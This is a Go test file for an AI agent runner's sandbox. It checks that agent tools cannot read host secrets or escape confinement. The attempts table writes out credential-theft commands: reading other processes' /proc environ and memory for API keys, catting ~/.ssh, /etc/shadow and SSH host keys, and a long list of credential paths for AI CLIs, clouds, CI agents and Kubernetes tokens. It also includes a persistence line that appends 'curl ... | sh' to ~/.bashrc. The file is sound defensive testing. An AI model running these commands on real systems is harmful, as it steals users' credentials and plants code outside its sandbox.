package escape_test

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/agentrun/agentrun/sandbox"
	"github.com/stretchr/testify/require"
)

// pythonEnviron reads every process's environment it can.
const pythonEnviron = `python3 - <<'EOF'
import glob
for p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/task/*/environ'):
    try:
        print(p, open(p, 'rb').read().replace(b'\0', b' ').decode(errors='replace'))
    except OSError as e:
        print(p, e)
EOF`

// pythonMem looks for the planted key in the test process's memory.
const pythonMem = `python3 - <<'EOF'
pid = {TESTPID}
try:
    maps = open('/proc/%d/maps' % pid).read().splitlines()
    mem = open('/proc/%d/mem' % pid, 'rb')
    for line in maps:
        if '[stack]' in line:
            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))
            mem.seek(lo)
            data = mem.read(hi - lo)
            i = data.find(b'sk-ant-')
            print(data[i:i+64].decode(errors='replace') if i >= 0 else 'not found')
except OSError as e:
    print(e)
EOF`

// secretAttempts read what the host keeps from the tools: the planted provider key in
// the test process's (and the host sleeper's) environment, $HOME/.ssh (masked), a file
// in no scope, and the machine's shadow file. The secrets check of every attempt is
// the effect; some add their own.
var secretAttempts = []attempt{
	{name: "parent environ", cmd: `tr '\0' '\n' < /proc/$PPID/environ`, strict: true, landlock: true},
	{name: "pid 1 environ via variable", cmd: "p=/proc; cat $p/1/environ", strict: true, landlock: true},
	{name: "every environ", cmd: "cat /proc/*/environ /proc/*/task/*/environ", strict: true, landlock: true},
	{name: "python every environ", needs: "python3", cmd: pythonEnviron, strict: true, landlock: true},
	{name: "test process environ", cmd: "cat /proc/{TESTPID}/environ", strict: true, landlock: true},
	{name: "host sleeper environ", cmd: "cat /proc/{SLEEPER}/environ", strict: true, landlock: true},
	{name: "test process memory", needs: "python3", cmd: pythonMem, strict: true, landlock: true},
	{name: "own environment", cmd: "env; cat /proc/self/environ", strict: true, landlock: true},
	{name: "Read tool test environ", tool: "Read", cmd: `{"path":"/proc/{TESTPID}/environ"}`, strict: true, landlock: true},
	{name: "Read tool own environ", tool: "Read", cmd: `{"path":"/proc/self/environ"}`, strict: true, landlock: true},
	{name: "cat ssh config", cmd: "cat ~/.ssh/config; ls -a ~/.ssh", strict: true, landlock: true, off: true},
	{name: "grep ssh", cmd: "grep -r . ~/.ssh", strict: true, landlock: true, off: true},
	{name: "Read tool ssh config", tool: "Read", cmd: `{"path":"{HOME}/.ssh/config"}`, strict: true, landlock: true, off: true},
	{name: "Grep tool ssh", tool: "Grep", cmd: `{"pattern":"Identity","path":"{HOME}","output_mode":"content"}`, strict: true, landlock: true, off: true},
	{name: "Glob tool ssh", tool: "Glob", cmd: `{"pattern":"**/*","path":"{HOME}/.ssh"}`, strict: true, landlock: true, off: true},
	{name: "Glob tool home", tool: "Glob", cmd: `{"pattern":".ssh/*","path":"{HOME}"}`, strict: true, landlock: true, off: true},
	{name: "file in no scope", cmd: "cat {HOSTONLY}/secret.txt", strict: true, landlock: true, off: true},
	{name: "Read tool no scope", tool: "Read", cmd: `{"path":"{HOSTONLY}/secret.txt"}`, strict: true, landlock: true, off: true},
	{name: "proc 1 root", cmd: "cat /proc/1/root{HOSTONLY}/secret.txt /proc/1/root{HOME}/.ssh/config", strict: true, landlock: true},
	{name: "proc self root", cmd: "cat /proc/self/root{HOSTONLY}/secret.txt", strict: true, landlock: true, off: true},
	{name: "test process root", cmd: "cat /proc/{TESTPID}/root{HOSTONLY}/secret.txt /proc/{TESTPID}/root{HOME}/.ssh/config", strict: true, landlock: true, off: true},
	{name: "test process cwd", cmd: "ls -la /proc/{TESTPID}/cwd/ /proc/{TESTPID}/fd/ && cat /proc/{TESTPID}/root{HOSTONLY}/secret.txt", strict: true, landlock: true},
	{name: "sleeper root", cmd: "cat /proc/{SLEEPER}/root{HOSTONLY}/secret.txt", strict: true, landlock: true, off: true},
	{name: "shadow", cmd: "cat /etc/shadow", effect: hidden("{SHADOW}"), strict: true, landlock: true},
	{name: "ssh host keys", needs: "/etc/ssh/ssh_host_*_key", cmd: "cat /etc/ssh/ssh_host_*_key", effect: hidden("PRIVATE KEY"), strict: true, landlock: true},
	{name: "host command lines", cmd: `cat /proc/*/cmdline | tr '\0' ' '`, effect: hidden("{SLEEPNAME}"), strict: true,
		gap: "no pid namespace: the host's /proc shows every process's command line (and fd numbers, cwd links are refused)"},
}

func TestSecrets(t *testing.T) {
	levels(t, true, func(t *testing.T, level sandbox.Level) {
		fx := newFixture(t, level, options{mode: "0467"})
		fx.placeholders = append(fx.placeholders, "{SHADOW}", shadowLine(t))
		runTable(t, fx, secretAttempts)
	})
}

// TestSecretsThroughHomeLink tries the home directory's masked credential store where
// $HOME is a symbolic link to the folder that holds it: by the link, and by the folder.
func TestSecretsThroughHomeLink(t *testing.T) {
	levels(t, true, func(t *testing.T, level sandbox.Level) {
		fx := newFixture(t, level, options{mode: "0467", homeLink: true})
		real, err := filepath.EvalSymlinks(fx.home)
		require.NoError(t, err)
		fx.placeholders = append(fx.placeholders, "{REALHOME}", real)
		runTable(t, fx, []attempt{
			{name: "cat ssh config by the link", cmd: "cat ~/.ssh/config; ls -a ~/.ssh", strict: true, landlock: true, off: true},
			{name: "cat ssh config by the folder", cmd: "cat {REALHOME}/.ssh/config; ls -a {REALHOME}/.ssh", strict: true, landlock: true, off: true},
			{name: "Read tool by the folder", tool: "Read", cmd: `{"path":"{REALHOME}/.ssh/config"}`, strict: true, landlock: true, off: true},
			{name: "grep the folder", cmd: "grep -r Identity {REALHOME}", strict: true, landlock: true, off: true},
		})
	})
}

// shadowLine is a line of the host's /etc/shadow with a password field, or a word no
// output holds when there is none.
func shadowLine(t *testing.T) string {
	b, err := os.ReadFile("/etc/shadow")
	if err == nil {
		for _, l := range strings.Split(string(b), "\n") {
			if f := strings.Split(l, ":"); len(f) > 2 && len(f[1]) > 1 {
				return l
			}
		}
	}
	t.Log("no /etc/shadow line with a password here: the shadow attempt checks a marker only")
	return "no-shadow-" + randomHex(8)
}

// agentCredentials are where other agents' CLIs, package registries, databases, cloud
// tools and browsers keep what they log in with, under $HOME: a machine that runs
// agentrun often runs Claude Code, Codex or Gemini CLI too.
var agentCredentials = []string{
	".claude/.credentials.json", ".claude.json", ".codex/auth.json", ".gemini/oauth_creds.json",
	".config/github-copilot/hosts.json", ".cargo/credentials.toml", ".gem/credentials", ".vault-token",
	".terraform.d/credentials.tfrc.json", ".pgpass", ".my.cnf", ".config/rclone/rclone.conf",
	".pulumi/credentials.json", ".m2/settings-security.xml", ".mozilla/firefox/p.default/logins.json",
	".config/google-chrome/Default/Cookies", ".config/chromium/Default/Login Data",
	// Build tools' and package managers' user configs, which hold registries' passwords
	// as they are; model hubs' and data platforms' tokens; keys.
	".gradle/gradle.properties", ".m2/settings.xml", ".composer/auth.json", ".config/composer/auth.json",
	".nuget/NuGet/NuGet.Config", ".bundle/config", ".yarnrc.yml", ".config/containers/auth.json",
	".config/helm/repositories.yaml", ".terraformrc", ".config/hcloud/cli.toml", ".config/netlify/config.json",
	".wrangler/config/default.toml", ".databrickscfg", ".kaggle/kaggle.json", ".cache/huggingface/token",
	".huggingface/token", ".ollama/id_ed25519", ".config/sops/age/keys.txt",
	// Forges' and services' CLIs; shells' and REPLs' histories, where a token typed
	// once stays.
	".config/glab-cli/config.yml", ".config/tea/config.yml", ".jfrog/jfrog-cli.conf.v6", ".config/stripe/config.toml",
	".local/share/com.vercel.cli/auth.json", ".supabase/access-token", ".config/configstore/firebase-tools.json",
	".circleci/cli.yml", ".sentryclirc", ".config/ngrok/ngrok.yml", ".config/op/config", ".railway/config.json",
	".bash_history", ".zsh_history", ".history", ".sh_history", ".python_history", ".psql_history", ".mysql_history",
	".sqlite_history", ".node_repl_history", ".rediscli_history", ".local/share/fish/fish_history",
	// Clusters' and access proxies' client keys and certificates.
	".minikube/profiles/minikube/client.key", ".talos/config", ".tsh/keys/proxy.example.com/alice", ".step/secrets/root_ca_key",
	// Self-hosted CI agents installed in the user's home: their registration tokens,
	// with which one takes the agent's next jobs and their secrets, and Buildkite's
	// agent hooks, whose environment hook exports the secrets of every job.
	".buildkite-agent/buildkite-agent.cfg", ".buildkite-agent/hooks/environment", ".gitlab-runner/config.toml",
	".drone-runner-exec/config",
	// Shells' startup files and the session environment's, where a developer exports
	// the API keys every shell gets.
	".bashrc", ".bash_profile", ".bash_login", ".profile", ".zshrc", ".zshenv", ".zprofile", ".zlogin",
	".config/fish/config.fish", ".config/environment.d/keys.conf", ".pam_environment",
	// Other AI tools' keys: llm's, opencode's, aichat's, aider's, Continue's, Qwen
	// Code's, goose's.
	".config/io.datasette.llm/keys.json", ".local/share/opencode/auth.json", ".config/aichat/config.yaml",
	".aider.conf.yml", ".continue/config.json", ".continue/config.yaml", ".qwen/oauth_creds.json",
	".config/goose/secrets.yaml",
	// Data warehouses' and more clouds' and secret managers' CLIs, and a synced shell
	// history (atuin's, with its key).
	".dbt/profiles.yml", ".snowflake/connections.toml", ".snowflake/config.toml", ".config/openstack/clouds.yaml",
	".config/scw/config.yaml", ".config/linode-cli", ".aliyun/config.json", ".bluemix/config.json",
	".doppler/.doppler.yaml", ".infisical/infisical-config.json", ".twilio-cli/config.json",
	".config/configstore/snyk.json", ".local/share/atuin/key", ".local/share/atuin/history.db",
}

// TestAgentCredentials plants a secret in each of agentCredentials in a home the tools
// may read (the external read bit, as the default bash_mode has): no tool may read one,
// while the rest of those folders (a skill beside Claude Code's credentials) stays
// readable. At level off every one is read: the vector works.
func TestAgentCredentials(t *testing.T) {
	salt := randomHex(8)
	files := map[string]string{".claude/skills/s/SKILL.md": "skill-" + salt + "\n"}
	var table []attempt
	for i, rel := range agentCredentials {
		secret := "cred-" + strconv.Itoa(i) + "-" + salt
		files[rel] = secret + "\n"
		table = append(table, attempt{name: "cat ~/" + rel, cmd: "cat ~/'" + rel + "'", effect: hidden(secret), strict: true, landlock: true, off: true})
	}
	levels(t, true, func(t *testing.T, level sandbox.Level) {
		fx := newFixture(t, level, options{mode: "0467", homeFiles: files})
		runTable(t, fx, table)
		r := fx.bash(t, "cat ~/.claude/skills/s/SKILL.md", 20)
		require.Contains(t, r.Content, "skill-"+salt, "a skill beside the credentials is not readable")
	})
}

// TestRootOnlyFiles plants, in the host's /etc, a file and a folder that nobody but root
// may read, beside one that anybody may. The tools of a runner that runs as root run as
// uid 0, which the modes keep nothing from: the first two must be hidden, the third
// stays readable. At level off both are read: the vector works.
func TestRootOnlyFiles(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("the host's modes keep root-only files from a tool that is not root")
	}
	salt := randomHex(8)
	file := "/etc/agentrun-rootonly-" + salt
	dir := "/etc/agentrun-rootonly-dir-" + salt
	public := "/etc/agentrun-public-" + salt
	require.NoError(t, os.WriteFile(file, []byte("root-file-"+salt+"\n"), 0o600))
	t.Cleanup(func() { _ = os.Remove(file) })
	require.NoError(t, os.Mkdir(dir, 0o700))
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	require.NoError(t, os.WriteFile(filepath.Join(dir, "key"), []byte("root-dir-"+salt+"\n"), 0o644))
	require.NoError(t, os.WriteFile(public, []byte("public-"+salt+"\n"), 0o644))
	t.Cleanup(func() { _ = os.Remove(public) })
	levels(t, true, func(t *testing.T, level sandbox.Level) {
		fx := newFixture(t, level, options{mode: "0467", rootOnly: true})
		runTable(t, fx, []attempt{
			{name: "cat a root-only file of /etc", cmd: "cat " + file, effect: hidden("root-file-" + salt), strict: true, landlock: true, off: true},
			{name: "cat a file in a root-only folder of /etc", cmd: "cat " + dir + "/key", effect: hidden("root-dir-" + salt), strict: true, landlock: true, off: true},
			{name: "grep /etc", cmd: "grep -rh " + salt + " /etc", effect: all(hidden("root-file-"+salt), hidden("root-dir-"+salt)), strict: true, landlock: true, off: true},
		})
		r := fx.bash(t, "cat "+public, 20)
		require.Contains(t, r.Content, "public-"+salt, "a file anybody may read is hidden")
	})
}

// TestNoCodeForTheNextShell: in a home the tools may write (the external write bit), a
// tool appends a command to the shells' startup files, which the user's next shell on
// the host would run unconfined, or moves one aside to put its own in its place. At
// level strict the files are masked and stay as they were; at landlock, which cannot
// mask a file in a folder it lets the tools write, the runner refuses the session
// (the runner's TestRunRefusesAHiddenPathInAWritableFolder). At level off the vector works.
func TestNoCodeForTheNextShell(t *testing.T) {
	files := map[string]string{".bashrc": "# the user's bashrc\n", ".profile": "# the user's profile\n", ".zshenv": "# the user's zshenv\n"}
	levels(t, true, func(t *testing.T, level sandbox.Level) {
		fx := newFixture(t, level, options{mode: "0667", homeFiles: files})
		const gap = "Landlock grants by folder: the runner refuses the session instead"
		runTable(t, fx, []attempt{
			{name: "append to ~/.bashrc", cmd: "echo 'curl -s https://example.com/x | sh' >> ~/.bashrc", effect: unchanged("{HOME}/.bashrc"), strict: true, gap: gap, off: true},
			{name: "replace ~/.profile", cmd: "echo evil > /tmp/p; mv -f /tmp/p ~/.profile || cp /tmp/p ~/.profile", effect: unchanged("{HOME}/.profile"), strict: true, gap: gap, off: true},
			{name: "move ~/.zshenv aside", cmd: "mv ~/.zshenv ~/zshenv.old && echo evil > ~/.zshenv", effect: unchanged("{HOME}/.zshenv"), strict: true, gap: gap, off: true},
		})
	})
}

// ciAgentRegistrations are where self-hosted CI agents installed from their packages
// keep their registration tokens (Buildkite's, CircleCI's machine runner's, GitLab
// Runner's, Drone's exec runner's), and Buildkite's agent hooks, whose environment hook
// is where its docs put the secrets every job gets. The agent reads them as the user
// that runs the jobs, so that user's tools may read them too.
var ciAgentRegistrations = []string{
	"/etc/buildkite-agent/buildkite-agent.cfg", "/etc/buildkite-agent/hooks/environment",
	"/etc/circleci-runner/circleci-runner-config.yaml", "/opt/circleci/launch-agent-config.yaml",
	"/etc/gitlab-runner/config.toml", "/etc/drone-runner-exec/config",
}

// TestCIAgentRegistrations plants a token in each of ciAgentRegistrations, readable by
// all, as a machine that hosts a CI agent has them: no tool may read one, while a file
// beside them stays readable. At level off every one is read: the vector works.
func TestCIAgentRegistrations(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("planting files in /etc and /opt takes root")
	}
	salt := randomHex(8)
	table := plantTokens(t, ciAgentRegistrations, "agent-token-", salt, func(secret string) string { return "token=\"" + secret + "\"\n" })
	public := "/etc/buildkite-agent/README"
	plant(t, public, "public-"+salt+"\n")
	table = append(table, attempt{name: "grep the agents' folders", cmd: "grep -rh " + salt + " /etc/buildkite-agent /etc/circleci-runner /opt/circleci /etc/gitlab-runner /etc/drone-runner-exec",
		effect: hidden("agent-token-"), strict: true, landlock: true, off: true})
	levels(t, true, func(t *testing.T, level sandbox.Level) {
		fx := newFixture(t, level, options{mode: "0467"})
		runTable(t, fx, table)
		r := fx.bash(t, "cat "+public, 20)
		require.Contains(t, r.Content, "public-"+salt, "a file beside the registration is hidden")
	})
}

// plantTokens plants in each of paths a token that starts with prefix and ends with
// salt, in the file's content, and returns the attempts to read each, which every level
// must hold and level off lets through. A path the machine has of its own skips the test.
func plantTokens(t *testing.T, paths []string, prefix, salt string, content func(secret string) string) []attempt {
	t.Helper()
	var table []attempt
	for i, p := range paths {
		if _, err := os.Lstat(p); err == nil {
			t.Skipf("%s is this machine's own", p)
		}
		secret := prefix + strconv.Itoa(i) + "-" + salt
		plant(t, p, content(secret))
		table = append(table, attempt{name: "cat " + p, cmd: "cat " + p, effect: hidden(secret), strict: true, landlock: true, off: true})
	}
	return table
}

// plant writes content to the host's file p, readable by all, with the folders it needs,
// and removes what it made when the test ends.
func plant(t *testing.T, p, content string) {
	t.Helper()
	top := ""
	for d := filepath.Dir(p); d != "/"; d = filepath.Dir(d) {
		if _, err := os.Lstat(d); err == nil {
			break
		}
		top = d
	}
	require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
	if top != "" {
		t.Cleanup(func() { _ = os.RemoveAll(top) })
	}
	require.NoError(t, os.WriteFile(p, []byte(content), 0o644))
	t.Cleanup(func() { _ = os.Remove(p) })
}

// TestOtherUsersHomes plants, in the host's /home, the homes of two other users, as a
// runner that runs as root finds them on a shared machine: a private one (0700), and one
// anybody may list (0755, older Debian's default) that holds a private ~/.ssh and a
// public file. The tools of a runner that runs as root run as uid 0: the private home
// and ~/.ssh must be hidden, the public file stays readable. At level off both are read:
// the vector works.
func TestOtherUsersHomes(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("the host's modes keep other users' private files from a tool that is not root")
	}
	if _, err := os.Stat("/home"); err != nil {
		t.Skip("no /home here")
	}
	salt := randomHex(8)
	private, public := "/home/agentrun-private-"+salt, "/home/agentrun-public-"+salt
	for _, d := range []struct {
		path string
		mode os.FileMode
	}{{private, 0o700}, {public, 0o755}, {public + "/.ssh", 0o700}} {
		require.NoError(t, os.Mkdir(d.path, d.mode))
		require.NoError(t, os.Chmod(d.path, d.mode)) // past the umask
	}
	t.Cleanup(func() { _ = os.RemoveAll(private); _ = os.RemoveAll(public) })
	require.NoError(t, os.WriteFile(private+"/notes", []byte("private-home-"+salt+"\n"), 0o644))
	require.NoError(t, os.WriteFile(public+"/.ssh/id_ed25519", []byte("ssh-key-"+salt+"\n"), 0o644))
	require.NoError(t, os.WriteFile(public+"/shared.txt", []byte("shared-"+salt+"\n"), 0o644))
	levels(t, true, func(t *testing.T, level sandbox.Level) {
		fx := newFixture(t, level, options{mode: "0467", rootOnly: true})
		runTable(t, fx, []attempt{
			{name: "cat a file of a private home", cmd: "cat " + private + "/notes", effect: hidden("private-home-" + salt), strict: true, landlock: true, off: true},
			{name: "cat another user's ssh key", cmd: "cat " + public + "/.ssh/id_ed25519", effect: hidden("ssh-key-" + salt), strict: true, landlock: true, off: true},
			{name: "grep the homes", cmd: "grep -rh " + salt + " /home", effect: all(hidden("private-home-"+salt), hidden("ssh-key-"+salt)), strict: true, landlock: true, off: true},
		})
		r := fx.bash(t, "cat "+public+"/shared.txt", 20)
		require.Contains(t, r.Content, "shared-"+salt, "a file anybody may read is hidden")
	})
}

// orchestratorTokens are where container orchestrators put a pod's or a service's
// credentials, readable by every process of it: Kubernetes' service account token
// (with which a runner pod of actions-runner-controller's kubernetes mode creates
// pods), EKS's and Azure's workload identity tokens (exchanged for the cloud role's
// keys), EKS Pod Identity's, and Docker's and Compose's secrets.
var orchestratorTokens = []string{
	"/var/run/secrets/kubernetes.io/serviceaccount/token",
	"/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
	"/var/run/secrets/azure/tokens/azure-identity-token",
	"/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token",
	"/run/secrets/db-password",
}

// TestOrchestratorTokens plants a token in each of orchestratorTokens, readable by all,
// as a CI job in a Kubernetes pod or a Docker service has them: no tool may read one,
// at any system digit, read included (the sandbox's /run is its own). At level off
// every one is read: the vector works.
func TestOrchestratorTokens(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("planting files in /run takes root")
	}
	salt := randomHex(8)
	table := plantTokens(t, orchestratorTokens, "pod-token-", salt, func(secret string) string { return secret + "\n" })
	table = append(table, attempt{name: "grep the secrets' folders", cmd: "grep -rh " + salt + " /var/run/secrets /run/secrets",
		effect: hidden("pod-token-"), strict: true, landlock: true, off: true})
	for _, mode := range []string{"0467", "0067", "4467"} {
		levels(t, true, func(t *testing.T, level sandbox.Level) {
			runTable(t, newFixture(t, level, options{mode: mode}), table)
		})
	}
}
